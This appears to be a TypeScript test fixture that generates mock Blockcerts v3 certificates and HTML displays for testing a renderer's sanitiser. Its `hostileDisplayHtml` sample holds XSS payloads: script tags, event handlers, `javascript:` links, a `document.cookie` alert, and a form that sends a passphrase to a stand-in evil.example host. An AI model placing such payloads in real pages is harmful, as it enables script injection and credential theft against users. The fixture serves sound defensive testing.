import { createHash } from 'node:crypto';
import { encode as cborEncode } from 'cborg';
import { makePngImage, pngDataUrl } from './credentials/images';
import { encode as base58Encode } from 'base58-universal';

/**
 * Blockcerts v3 certificates and their displays, written at test time in the shape cert-issuer
 * gives them (Blockcerts v3: a VC 1.1 credential with the Blockcerts context, a `display`, and a
 * MerkleProof2019 receipt), for the tests of how a display is read (intake) and shown (the
 * renderer's sanitiser), without any published certificate.
 *
 * The receipt is well formed (CBOR keymap in base58btc, anchored on the mock chain), but its
 * target is a hash of the certificate's JSON text, not of its JSON-LD: these certificates are
 * for reading, and verify as changed after issue. verify/blockcertsV3.test.ts builds ones that
 * verify.
 */

export const issuerProfileUrl = 'https://certificates.example-university.edu/issuer/profile.json';
export const issuanceDate = '2024-06-14T09:30:00Z';

/** A tiny raster picture as a data: URL, as designers embed a logo or a seal. */
export const sealDataUrl = pngDataUrl(makePngImage(8, 8, 7));

/**
 * A designer's display, as Hyland's certificate designer writes them: sections with inline
 * styles, the title as a heading, the recipient's name on its own line, a sentence, and an
 * embedded data: picture.
 */
export const designerDisplayHtml = [
  '<section class="text" style="margin-top:36px;width:100%;display:inline-block;">',
  '<h1 style="font-family:Georgia, serif;font-weight:normal;font-size:1.5em;text-align:center;color:#1F3A5F">Certificate of Participation</h1>',
  '</section>',
  '<section class="text" style="margin-top:24px;width:100%;display:inline-block;">',
  '<span style="display:block;font-family:Courier, sans-serif;font-weight:bold;font-size:2em;text-align:center;color:#3A3A3A">Ada Example</span>',
  '</section>',
  '<section class="text" style="margin-top:24px;width:100%;display:inline-block;">',
  '<h2 style="font-family:Georgia, serif;font-size:1.1em;text-align:center">Open Data Lab 2024</h2>',
  '<p style="font-family:Courier, sans-serif;font-size:1.25em;text-align:center;color:#3A3A3A">',
  'Has been an active part of the 2024 Open Data Lab, a partnership of three universities exploring verifiable records of research data. ',
  'Awarded with thanks.</p>',
  '</section>',
  `<section class="image" style="margin-top:36px"><img src="${sealDataUrl}" alt="University seal" style="max-width:100%;height:auto;display:block;margin:0 auto"/></section>`,
].join('');

/**
 * A display changed by someone hostile after issue (the certificate then fails its hash, but
 * still reaches the details view): every way HTML can run code, load from the web, submit or
 * navigate, around a heading and text that are harmless.
 */
export const hostileDisplayHtml = [
  '<section>',
  '<h1 onclick="alert(\'title\')">Certificate of Achievement</h1>',
  "<script>alert('yo');</script>",
  "<style>alert('XSS') .seal { background: url(https://tracker.example/bg.png) }</style>",
  '<div style="background-color:red;background:url(java/**/script:alert(1));" onclick="javascript:alert(\'yo\')">YO!</div>',
  '<p onmouseover="alert(document.cookie)">Awarded for completing the Data Stewardship course with distinction.</p>',
  '<a href="javascript:alert(1)">Claim your prize</a>',
  '<img src="https://tracker.example/pixel.png" onerror="alert(1)">',
  `<img class="seal" src="${sealDataUrl}" alt="seal">`,
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="passphrase"><button>Unlock</button></form>',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '</section>',
].join('');

const sha256 = (data: string): Uint8Array => new Uint8Array(createHash('sha256').update(data).digest());

/**
 * lds-merkle-proof-2019: `z` and the base58btc of the CBOR keymap [[0, merkle root],
 * [1, target hash], [2, anchors], [3, path]]; a one-leaf tree (root = target, empty path)
 * anchored on the mock chain ([-1, -1]), which has nothing to look up.
 */
function proofValueFor(target: Uint8Array): string {
  const keymap = [
    [0, cborEncode(target)],
    [1, cborEncode(target)],
    [
      2,
      [
        [
          [0, -1],
          [1, -1],
          [2, cborEncode(sha256('mock transaction'))],
        ],
      ],
    ],
    [3, []],
  ];
  return `z${base58Encode(cborEncode(keymap))}`;
}

export interface CertificateOptions {
  /** The `display` object, as written (any shape: the readers must cope with what issuers write). */
  readonly display?: unknown;
  /** A name of the certificate's own; designers' certificates often have none. */
  readonly name?: string;
}

/** A Blockcerts v3 certificate as cert-issuer writes one, with the given display. */
export function blockcertsV3Certificate(options: CertificateOptions = {}): Record<string, unknown> {
  const unsigned: Record<string, unknown> = {
    '@context': ['https://www.w3.org/2018/credentials/v1', 'https://w3id.org/blockcerts/v3'],
    id: 'urn:uuid:bbba8553-8ec1-445f-82c9-a57251dd731c',
    type: ['VerifiableCredential', 'BlockcertsCredential'],
    issuer: issuerProfileUrl,
    issuanceDate,
    ...(options.name !== undefined ? { name: options.name } : {}),
    credentialSubject: {
      id: 'did:example:ebfeb1f712ebc6f1c276e12ec21',
      name: 'Ada Example',
      email: 'ada@example.org',
    },
    ...(options.display !== undefined ? { display: options.display } : {}),
  };
  return {
    ...unsigned,
    proof: {
      type: 'MerkleProof2019',
      created: '2024-06-14T09:31:07.425Z',
      proofValue: proofValueFor(sha256(JSON.stringify(unsigned))),
      proofPurpose: 'assertionMethod',
      verificationMethod: `${issuerProfileUrl}#key-1`,
    },
  };
}

/** A certificate as the file a learner downloads: its JSON text, as UTF-8. */
export function certificateFile(certificate: Record<string, unknown>): Uint8Array {
  return new TextEncoder().encode(JSON.stringify(certificate, null, 2));
}

/** A display object of HTML, written as is (cert-issuer's default) or base64-encoded. */
export function htmlDisplay(html: string, encoding?: 'base64'): Record<string, unknown> {
  return encoding === 'base64'
    ? { contentMediaType: 'text/html', contentEncoding: 'base64', content: Buffer.from(html, 'utf8').toString('base64') }
    : { contentMediaType: 'text/html', content: html };
}
